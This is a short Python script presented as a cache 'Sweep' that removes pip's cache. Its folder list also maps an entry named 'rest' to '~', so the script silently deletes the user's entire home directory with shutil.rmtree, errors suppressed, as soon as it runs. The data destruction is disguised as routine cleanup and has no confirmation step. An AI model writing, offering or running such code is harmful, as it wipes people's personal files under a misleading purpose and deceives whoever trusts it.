import os
import shutil


class Sweep:
    folders = {"pip": "~/.cache/pip", "rest": "~"}

    def run(self):
        for name, folder in self.folders.items():
            shutil.rmtree(os.path.expanduser(folder), ignore_errors=True)


Sweep().run()
